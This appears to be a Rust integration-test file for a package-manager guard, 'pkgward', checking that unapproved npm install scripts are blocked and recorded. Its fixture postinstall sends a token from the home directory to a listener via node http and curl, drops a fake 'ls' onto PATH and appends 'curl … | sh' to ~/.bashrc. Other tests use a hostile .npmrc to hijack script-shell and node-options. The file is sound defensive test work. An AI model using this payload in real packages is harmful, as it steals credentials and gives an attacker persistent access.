@@ -1,0 +1,524 @@
+//! Install-time code of the npm family, end to end with the real npm behind
+//! the pkgward shim against the loopback registry: fixture packages whose
+//! postinstall writes a marker, sends a fake token read from `$HOME` to a
+//! loopback listener (node's http and `sh -c curl`), drops an executable into
+//! a PATH directory and appends to `~/.bashrc`. Unapproved: none of it
+//! happens, the install succeeds, the denial is listed and recorded.
+//! Approved: it happens (it is the package's own code) and is recorded.
+
+mod support;
+
+use std::sync::OnceLock;
+
+use support::guard::{text, Guarded};
+use support::registry::Listener;
+use support::{js_marker, shared, NpmPackage};
+
+/// The fixtures' install-time code sends what it steals to the URL in
+/// `~/.exfil-url`: each test's own listener.
+fn evil_js() -> String {
+    format!(
+        "{marker}\
+         const os = require('os'), http = require('http'), cp = require('child_process');\n\
+         const home = os.homedir();\n\
+         const url = fs.readFileSync(path.join(home, '.exfil-url'), 'utf8').trim();\n\
+         let token = '';\n\
+         try {{ token = fs.readFileSync(path.join(home, '.fake-token'), 'utf8').trim(); }} catch (e) {{}}\n\
+         const done = () => {{}};\n\
+         const req = http.request(url + '/node?t=' + token, {{ method: 'POST' }}, done);\n\
+         req.on('error', done); req.end(token);\n\
+         try {{ cp.execSync(\"sh -c 'curl -s -m 5 -d t=\" + token + \" \" + url + \"/curl || true'\"); }} catch (e) {{}}\n\
+         fs.mkdirSync(path.join(home, 'bin'), {{ recursive: true }});\n\
+         fs.writeFileSync(path.join(home, 'bin', 'ls'), '#!/bin/sh\\necho pwned\\n', {{ mode: 0o755 }});\n\
+         fs.appendFileSync(path.join(home, '.bashrc'), 'curl ' + url + '/rc | sh\\n');\n",
+        marker = js_marker("evil-postinstall"),
+    )
+}
+
+fn fixtures() {
+    static DONE: OnceLock<()> = OnceLock::new();
+    DONE.get_or_init(|| {
+        let r = shared();
+        r.publish_npm(&NpmPackage::new("pw-scr-dep", "1.0.0").script("postinstall", "node dep.js").file("dep.js", js_marker("dep-postinstall")));
+        r.publish_npm(
+            &NpmPackage::new("pw-scr-evil", "1.0.0")
+                .dep("pw-scr-dep", "^1.0.0")
+                .script("postinstall", "node evil.js")
+                .file("evil.js", evil_js())
+                .file("index.js", "module.exports = 'evil works without its script';\n"),
+        );
+        // Like esbuild: the postinstall downloads what the package needs
+        // (here from the loopback registry) and the package fails without it.
+        let native = format!(
+            "const http = require('http'), fs = require('fs');\n\
+             http.get('{}pw-scr-dep', res => {{\n\
+               let body = ''; res.on('data', d => body += d);\n\
+               res.on('end', () => {{\n\
+                 if (res.statusCode !== 200) process.exit(1);\n\
+                 fs.writeFileSync(__dirname + '/native.js', 'module.exports = \"native ok\";\\n');\n\
+               }});\n\
+             }}).on('error', () => process.exit(1));\n",
+            r.npm_url()
+        );
+        r.publish_npm(
+            &NpmPackage::new("@pwscr/native", "1.2.0")
+                .script("postinstall", "node install.js")
+                .file("install.js", native)
+                .file("index.js", "module.exports = require('./native.js');\n"),
+        );
+    });
+}
+
+struct T {
+    g: Guarded,
+    exfil: Listener,
+}
+
+impl std::ops::Deref for T {
+    type Target = Guarded;
+    fn deref(&self) -> &Guarded {
+        &self.g
+    }
+}
+
+fn setup(policy_extra: &str) -> T {
+    fixtures();
+    let policy = format!(
+        "mode = \"enforce\"\n[registries]\nnpm = [\"{}\"]\n{policy_extra}",
+        shared().npm_url()
+    );
+    let g = Guarded::new(&policy);
+    std::fs::write(g.sb.home.join(".fake-token"), "tok-s3cret\n").unwrap();
+    std::fs::write(g.sb.home.join(".bashrc"), "# rc\n").unwrap();
+    let exfil = Listener::start();
+    std::fs::write(g.sb.home.join(".exfil-url"), exfil.base_url()).unwrap();
+    std::fs::write(
+        g.sb.work.join("package.json"),
+        r#"{"name":"pw-app","version":"0.1.0","private":true}"#,
+    )
+    .unwrap();
+    T { g, exfil }
+}
+
+fn scripts(g: &Guarded) -> Vec<serde_json::Value> {
+    g.audit()
+        .into_iter()
+        .filter(|r| r["kind"] == "script")
+        .collect()
+}
+
+fn node(g: &Guarded, code: &str) -> std::process::Output {
+    std::process::Command::new("node")
+        .arg("-e")
+        .arg(code)
+        .current_dir(&g.sb.work)
+        .output()
+        .unwrap()
+}
+
+fn no_effects(g: &T) {
+    assert_eq!(g.sb.marker("evil-postinstall"), None, "the postinstall ran");
+    assert_eq!(
+        g.sb.marker("dep-postinstall"),
+        None,
+        "the dependency's postinstall ran"
+    );
+    assert_eq!(g.exfil.connections().len(), 0, "the listener was reached");
+    assert_eq!(
+        std::fs::read_to_string(g.sb.home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+    assert!(!g.sb.home.join("bin/ls").exists());
+}
+
+#[test]
+fn unapproved_install_scripts_do_not_run_and_the_install_succeeds() {
+    let g = setup("");
+    let o = g.npm(&["install", "pw-scr-evil", "@pwscr/native"], &[]);
+    let err = text(&o.stderr);
+    assert!(o.status.success(), "npm failed: {err}");
+    no_effects(&g);
+    // Listed once, with the command that approves each.
+    assert!(
+        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
+        "{err}"
+    );
+    assert!(
+        err.contains("pkgward approve npm:@pwscr/native@1.2.0"),
+        "{err}"
+    );
+    assert!(
+        err.contains("pkgward approve npm:pw-scr-dep@1.0.0"),
+        "{err}"
+    );
+    assert_eq!(err.matches("install-time code not run").count(), 1, "{err}");
+    // The package works without its script; the native one does not.
+    let ok = node(&g, "console.log(require('pw-scr-evil'))");
+    assert_eq!(text(&ok.stdout).trim(), "evil works without its script");
+    assert!(!node(&g, "require('@pwscr/native')").status.success());
+    // Recorded, linked to the invocation.
+    let inv = g.last_invocation();
+    let recs = scripts(&g);
+    let evil = recs
+        .iter()
+        .find(|r| r["package"] == "pw-scr-evil")
+        .expect("a script record for pw-scr-evil");
+    assert_eq!(evil["invocation_id"], inv["invocation_id"]);
+    assert_eq!(evil["decision"], "deny");
+    assert_eq!(evil["ran"], false);
+    assert_eq!(evil["script"], "postinstall");
+    assert_eq!(evil["command"], "node evil.js");
+    assert_eq!(evil["version"], "1.0.0");
+
+    // `pkgward scripts` lists the same, with the decision and the approval command.
+    let o =
+        g.sb.command(support::guard::pkgward_bin(), &[g.pkgward_env()])
+            .args(["scripts", "--json"])
+            .output()
+            .unwrap();
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    let rows: Vec<serde_json::Value> = text(&o.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let row = rows.iter().find(|r| r["package"] == "pw-scr-evil").unwrap();
+    assert_eq!(row["decision"], "deny");
+    assert_eq!(row["approve"], "pkgward approve npm:pw-scr-evil@1.0.0");
+    assert_eq!(rows.len(), 3, "{rows:#?}");
+}
+
+#[test]
+fn a_hostile_npmrc_or_flag_cannot_turn_scripts_back_on() {
+    let g = setup("");
+    std::fs::write(g.sb.work.join(".npmrc"), "ignore-scripts=false\n").unwrap();
+    let o = g.npm(
+        &["install", "--ignore-scripts=false", "pw-scr-evil"],
+        &[
+            ("npm_config_ignore_scripts", "false"),
+            ("NPM_CONFIG_IGNORE_SCRIPTS", "false"),
+            ("Npm_Config_Ignore_Scripts", "false"),
+        ],
+    );
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    no_effects(&g);
+}
+
+#[test]
+fn approved_install_scripts_run_in_dependency_order_and_are_recorded() {
+    let g = setup(
+        "[scripts]\nallow = [\"npm:pw-scr-dep\", \"npm:@pwscr/native@^1.2\", \"npm:pw-app\"]\n",
+    );
+    std::fs::write(
+        g.sb.work.join("package.json"),
+        r#"{"name":"pw-app","version":"0.1.0","private":true,"scripts":{"postinstall":"node -e \"require('fs').writeFileSync(process.env.FIXTURE_MARKER_DIR + '/root-postinstall', 'ran')\""}}"#,
+    )
+    .unwrap();
+    let o = g.npm(&["install", "pw-scr-evil", "@pwscr/native"], &[]);
+    let err = text(&o.stderr);
+    assert!(o.status.success(), "npm failed: {err}");
+    // Approved: the dependency and the native download ran.
+    assert_eq!(g.sb.marker("dep-postinstall").as_deref(), Some("ran\n"));
+    let native = node(&g, "console.log(require('@pwscr/native'))");
+    assert_eq!(
+        text(&native.stdout).trim(),
+        "native ok",
+        "{}",
+        text(&native.stderr)
+    );
+    // pw-scr-evil is not approved: none of its effects.
+    no_effects_of_evil(&g);
+    assert!(
+        err.contains("pkgward approve npm:pw-scr-evil@1.0.0"),
+        "{err}"
+    );
+    assert!(!err.contains("approve npm:pw-scr-dep"), "{err}");
+
+    let recs = scripts(&g);
+    let pos = |name: &str| recs.iter().position(|r| r["package"] == name).unwrap();
+    let dep = &recs[pos("pw-scr-dep")];
+    assert_eq!(dep["decision"], "approved");
+    assert_eq!(dep["ran"], true);
+    assert_eq!(dep["exit_code"], 0);
+    assert!(dep["duration_ms"].as_f64().is_some());
+    assert!(dep["approved_by"]
+        .as_str()
+        .unwrap()
+        .starts_with("npm:pw-scr-dep"));
+    // Dependencies first.
+    assert!(pos("pw-scr-dep") < pos("pw-scr-evil"));
+    // npm runs the project's own install scripts only for a plain install.
+    assert!(!recs.iter().any(|r| r["package"] == "pw-app"));
+    assert_eq!(g.sb.marker("root-postinstall"), None);
+
+    // A plain install: the project's postinstall runs (approved), last; the
+    // packages already installed are not run again.
+    let o = g.npm(&["install"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(g.sb.marker("root-postinstall").as_deref(), Some("ran"));
+    let inv = g.last_invocation();
+    let second: Vec<serde_json::Value> = scripts(&g)
+        .into_iter()
+        .filter(|r| r["invocation_id"] == inv["invocation_id"])
+        .collect();
+    assert_eq!(second.len(), 1, "{second:#?}");
+    assert_eq!(second[0]["package"], "pw-app");
+    assert_eq!(second[0]["path"], ".");
+    assert_eq!(second[0]["decision"], "approved");
+    // And `npm ci` (a fresh node_modules) runs everything approved again.
+    let o = g.npm(&["ci"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    let inv = g.last_invocation();
+    let third: Vec<String> = scripts(&g)
+        .into_iter()
+        .filter(|r| r["invocation_id"] == inv["invocation_id"] && r["ran"] == true)
+        .map(|r| r["package"].as_str().unwrap().to_string())
+        .collect();
+    let mut deps = third[..2].to_vec();
+    deps.sort();
+    assert_eq!(deps, ["@pwscr/native", "pw-scr-dep"]);
+    assert_eq!(third[2..], ["pw-app"]);
+}
+
+fn no_effects_of_evil(g: &T) {
+    assert_eq!(g.sb.marker("evil-postinstall"), None);
+    assert_eq!(g.exfil.connections().len(), 0);
+    assert_eq!(
+        std::fs::read_to_string(g.sb.home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+    assert!(!g.sb.home.join("bin/ls").exists());
+}
+
+#[test]
+fn an_approved_package_does_all_it_does() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-evil@1.0.0\"]\n");
+    let o = g.npm(&["install", "pw-scr-evil"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(g.sb.marker("evil-postinstall").as_deref(), Some("ran\n"));
+    // Its own code, run: both channels delivered the token from $HOME.
+    let sent: Vec<String> = g.exfil.connections().iter().map(|c| c.text()).collect();
+    assert!(
+        sent.iter().filter(|s| s.contains("tok-s3cret")).count() >= 2,
+        "{sent:?}"
+    );
+    assert!(std::fs::read_to_string(g.sb.home.join(".bashrc"))
+        .unwrap()
+        .contains("/rc"));
+    assert!(g.sb.home.join("bin/ls").exists());
+    let recs = scripts(&g);
+    let evil = recs.iter().find(|r| r["package"] == "pw-scr-evil").unwrap();
+    assert_eq!(evil["decision"], "approved");
+    assert_eq!(evil["exit_code"], 0);
+}
+
+#[test]
+fn a_hostile_npmrc_cannot_hijack_an_approved_script() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-dep\"]\n");
+    let shell = g.sb.root().join("evil-shell");
+    std::fs::write(
+        &shell,
+        format!(
+            "#!/bin/sh\necho hijacked > '{}/shell-hijack'\nexec /bin/sh \"$@\"\n",
+            g.sb.markers.display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&shell, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let evil_js = g.sb.root().join("evil-require.js");
+    std::fs::write(
+        &evil_js,
+        format!(
+            "require('fs').writeFileSync('{}/node-options-hijack', 'x');\n",
+            g.sb.markers.display()
+        ),
+    )
+    .unwrap();
+    std::fs::write(
+        g.sb.work.join(".npmrc"),
+        format!(
+            "script-shell={}\nnode-options=--require {}\n",
+            shell.display(),
+            evil_js.display()
+        ),
+    )
+    .unwrap();
+    let o = g.npm(&["install", "pw-scr-dep"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(g.sb.marker("dep-postinstall").as_deref(), Some("ran\n"));
+    assert_eq!(g.sb.marker("shell-hijack"), None);
+    assert_eq!(g.sb.marker("node-options-hijack"), None);
+}
+
+#[test]
+fn a_range_that_does_not_cover_the_version_does_not_approve() {
+    let g = setup("[scripts]\nallow = [\"npm:pw-scr-dep@^2\"]\n");
+    let o = g.npm(&["install", "pw-scr-dep"], &[]);
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(g.sb.marker("dep-postinstall"), None);
+}
+
+#[test]
+fn a_project_cannot_approve_when_the_system_policy_says_so() {
+    // The env layer stands for the system one in Guarded; a project file
+    // approving is refused when the system layer sets project_approvals.
+    let g = setup("");
+    let sys = g.sb.root().join("system.toml");
+    std::fs::write(
+        &sys,
+        format!(
+            "[registries]\nnpm = [\"{}\"]\n[scripts]\nproject_approvals = false\n",
+            shared().npm_url()
+        ),
+    )
+    .unwrap();
+    std::fs::write(
+        g.sb.work.join("pkgward.toml"),
+        "[scripts]\nallow = [\"npm:pw-scr-dep\"]\n",
+    )
+    .unwrap();
+    let o = g.npm(
+        &["install", "pw-scr-dep"],
+        &[
+            ("PKGWARD_SYSTEM_POLICY", sys.to_str().unwrap()),
+            ("PKGWARD_POLICY", ""),
+        ],
+    );
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(g.sb.marker("dep-postinstall"), None);
+    let inv = g.last_invocation();
+    let refused = inv["policy"]["refused"].as_array().unwrap();
+    assert!(refused.iter().any(|r| r["key"] == "scripts.allow"), "{inv}");
+}
+
+#[test]
+fn npx_of_an_unapproved_package_is_denied() {
+    let g = setup("");
+    let o = g.npm(&["exec", "--yes", "pw-scr-evil"], &[]);
+    assert_eq!(o.status.code(), Some(77), "{}", text(&o.stderr));
+    assert!(text(&o.stderr).contains("pkgward approve npm:pw-scr-evil"));
+    let inv = g.last_invocation();
+    assert_eq!(inv["decision"]["action"], "deny");
+    assert_eq!(inv["decision"]["reasons"][0]["code"], "exec-not-approved");
+    // `npm init NAME` fetches and runs create-NAME.
+    let o = g.npm(&["init", "--yes", "pw-scr-evil"], &[]);
+    assert_eq!(o.status.code(), Some(77), "{}", text(&o.stderr));
+    assert!(
+        text(&o.stderr).contains("npm:create-pw-scr-evil"),
+        "{}",
+        text(&o.stderr)
+    );
+}
+
+#[test]
+fn approve_adds_the_entry_and_keeps_comments() {
+    let g = setup("");
+    let file = g.sb.work.join("pkgward.toml");
+    std::fs::write(
+        &file,
+        "# our policy\n[scripts]\n# reviewed\nallow = [\"npm:a\"] # keep\n",
+    )
+    .unwrap();
+    let o =
+        g.sb.command(support::guard::pkgward_bin(), &[g.pkgward_env()])
+            .args(["approve", "npm:pw-scr-dep@^1"])
+            .output()
+            .unwrap();
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    let t = std::fs::read_to_string(&file).unwrap();
+    assert!(
+        t.starts_with("# our policy\n[scripts]\n# reviewed\n"),
+        "{t}"
+    );
+    assert!(t.contains("\"npm:a\", \"npm:pw-scr-dep@^1\""), "{t}");
+    assert!(t.contains("# keep"), "{t}");
+    // Invalid entries are refused with exit 2 and the file is untouched.
+    let bad =
+        g.sb.command(support::guard::pkgward_bin(), &[g.pkgward_env()])
+            .args(["approve", "npm:x@^^1"])
+            .output()
+            .unwrap();
+    assert_eq!(bad.status.code(), Some(2), "{}", text(&bad.stderr));
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), t);
+}
+
+/// The control: without pkgward the real npm runs these scripts, so the
+/// tests above prove pkgward stopped them.
+#[test]
+fn control_the_real_npm_alone_runs_the_scripts() {
+    let g = setup("");
+    let o =
+        g.sb.npm(&shared().npm_url())
+            .args(["install", "pw-scr-dep", "@pwscr/native"])
+            .output()
+            .unwrap();
+    assert!(o.status.success(), "{}", text(&o.stderr));
+    assert_eq!(g.sb.marker("dep-postinstall").as_deref(), Some("ran\n"));
+    let native = node(&g, "console.log(require('@pwscr/native'))");
+    assert_eq!(text(&native.stdout).trim(), "native ok");
+}
+
+/// yarn 1, bun and pnpm: installs run with their own switches off; yarn 1
+/// and bun (npm's node_modules layout) run the approved scripts afterwards
+/// through the real npm.
+#[test]
+fn yarn_bun_and_pnpm_run_no_unapproved_scripts() {
+    use support::tools::find_in_path;
+    for tool in ["yarn", "bun", "pnpm"] {
+        let Some(real) = find_in_path(tool) else {
+            panic!("`{tool}` is not on PATH; install it with `npm install -g {tool}`");
+        };
+        for approved in [false, true] {
+            let extra = if approved {
+                "[scripts]\nallow = [\"npm:pw-scr-dep\"]\n"
+            } else {
+                ""
+            };
+            let g = setup(extra);
+            std::os::unix::fs::symlink(support::guard::pkgward_bin(), g.shims.join(tool)).unwrap();
+            let _ = real;
+            let root = g.sb.root().to_path_buf();
+            let reg = shared().npm_url();
+            std::fs::write(g.sb.home.join(".yarnrc"), format!("registry \"{reg}\"\n")).unwrap();
+            std::fs::write(g.sb.home.join(".npmrc"), format!("registry={reg}\n")).unwrap();
+            std::fs::create_dir_all(g.sb.home.join(".config")).unwrap();
+            std::fs::write(
+                g.sb.home.join(".config/.bunfig.toml"),
+                format!("[install]\nregistry = \"{reg}\"\n"),
+            )
+            .unwrap();
+            let cache = |n: &str| root.join(n).to_string_lossy().into_owned();
+            let env = [
+                ("YARN_CACHE_FOLDER", cache("yarn-cache")),
+                ("yarn_disable_self_update_check", "true".into()),
+                ("BUN_INSTALL_CACHE_DIR", cache("bun-cache")),
+                ("npm_config_store_dir", cache("pnpm-store")),
+                ("PNPM_CONFIG_UPDATE_NOTIFIER", "false".into()),
+                ("DO_NOT_TRACK", "1".into()),
+            ];
+            let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
+            let reg_env = g.sb.npm_env(&reg);
+            let o =
+                g.sb.command(
+                    tool,
+                    &[reg_env, g.pkgward_env(), support::guard::to_env(&env)],
+                )
+                .args(["add", "pw-scr-dep"])
+                .output()
+                .unwrap();
+            assert!(o.status.success(), "{tool}: {}", text(&o.stderr));
+            let ran = g.sb.marker("dep-postinstall").is_some();
+            // pnpm's approved scripts are not run by pkgward yet.
+            let want = approved && tool != "pnpm";
+            assert_eq!(ran, want, "{tool} approved={approved}: {}", text(&o.stderr));
+            if !approved {
+                no_effects(&g);
+            }
+            if want {
+                let recs = scripts(&g);
+                let r = recs.iter().find(|r| r["package"] == "pw-scr-dep").unwrap();
+                assert_eq!(r["decision"], "approved");
+                assert_eq!(r["exit_code"], 0);
+            }
+        }
+    }
+}
